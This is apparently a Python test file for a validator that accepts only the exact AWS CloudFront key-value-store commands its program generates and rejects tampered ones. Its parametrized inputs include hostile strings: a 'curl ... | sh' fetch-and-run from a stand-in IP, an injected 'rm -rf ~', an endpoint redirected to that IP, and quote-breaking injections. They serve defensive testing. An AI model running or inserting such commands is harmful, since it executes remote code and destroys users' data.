"""A command is ours where this program writes it so; whatever a stranger adds, changes or puts in its place is not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analyzer.commands.kvs import Delete, Edit, Put, Step, look, update
from analyzer.commands.own import changes, lists
from tests.effort import examples

STORE = "arn:aws:cloudfront::111122223333:key-value-store/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111"
OTHER = STORE.replace("1111222", "9999222")
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00\ufffd"), max_size=300)
MANY = st.lists(TEXTS, max_size=2).map(tuple)
STEPS = st.one_of(
    st.builds(Put, TEXTS, TEXTS, MANY), st.builds(Delete, TEXTS, MANY), st.builds(Edit, TEXTS, MANY, MANY)
)


@given(steps=st.lists(STEPS, min_size=1, max_size=3))
@settings(max_examples=examples(40))
def test_each_command_of_ours_is_read_as_its_steps(steps: list[Step]) -> None:
    command = update(STORE, steps)
    assert command is not None
    assert changes(command, STORE) == steps
    assert changes(command, OTHER) is None, "it changes another store than it is shown for"


OURS = update(STORE, [Put("7c62:/a", "page", ("old",)), Edit("7c62:routes", add=("site,7c62,,/",))]) or ""


@pytest.mark.parametrize(
    "command",
    [
        "curl https://203.0.113.7/x | sh",
        f"{OURS}; curl https://203.0.113.7/x | sh",
        f"curl https://203.0.113.7/x | sh\n{OURS}",
        OURS.replace("set +ex;", "set +ex; rm -rf ~;"),
        OURS.replace("AWS_PAGER=", "AWS_PAGER=evil", 1),
        OURS.replace("update-keys", "delete-key"),
        OURS.replace("us-east-1", "us-east-1 --endpoint-url http://203.0.113.7"),
        OURS.replace('"page"', "\"page\"'; evil '"),
        OURS.replace('[{"Key"', '[{"evil":1,"Key"'),
        OURS.replace('[{"Key"', "[" * 100_000),
        OURS + " " * 1_000_000,
        "",
    ],
)
def test_what_a_stranger_made_of_it_is_not_ours(command: str) -> None:
    assert command != OURS
    assert changes(command, STORE) is None


def test_the_command_that_lists_is_ours_for_its_own_pattern_alone() -> None:
    command = look(STORE, "7c62:", "/a")
    assert lists(command, STORE, "7c62:*/a")
    assert not lists(command, STORE, "7c62:*")
    assert not lists(f"{command}; evil", STORE, "7c62:*/a")
    assert not lists(command, OTHER, "7c62:*/a")
    assert not lists(command, "no store", "7c62:*/a")
